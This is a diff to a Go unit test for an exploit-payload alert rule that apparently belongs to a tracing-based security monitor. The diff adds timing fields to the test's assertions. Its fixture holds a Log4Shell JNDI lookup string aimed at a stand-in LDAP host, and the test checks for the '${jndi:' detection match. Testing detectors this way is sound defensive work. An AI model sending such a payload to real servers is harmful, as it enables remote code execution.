@@ -209,6 +209,7 @@ func TestRuleAlert(t *testing.T) {
 	sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
 	sp.TraceID = [16]byte{1}
 	sp.SpanID = [8]byte{2}
+	sp.Start = tm(-3)
 	as := exploits(rules, &sp, nil, tm(0), tm(1))
 	if len(as) != 1 {
 		t.Fatalf("Alerts = %d alerts, want 1", len(as))
@@ -217,7 +218,8 @@ func TestRuleAlert(t *testing.T) {
 	if a.Kind != KindExploitPayload || a.Severity != Critical || a.Service != "shop" ||
 		a.Evidence.Endpoint != "GET /search" || a.Evidence.Match != "${jndi:" ||
 		a.Evidence.TraceID != "01000000000000000000000000000000" || a.Evidence.SpanID != "0200000000000000" ||
-		a.DedupeKey != "exploit_payload|shop|GET /search|jndi-lookup" {
+		a.DedupeKey != "exploit_payload|shop|GET /search|jndi-lookup" ||
+		a.Observed != tm(-3) || a.ReceivedAt != tm(0) || a.Time != tm(1) {
 		t.Errorf("alert = %+v", a)
 	}
 }
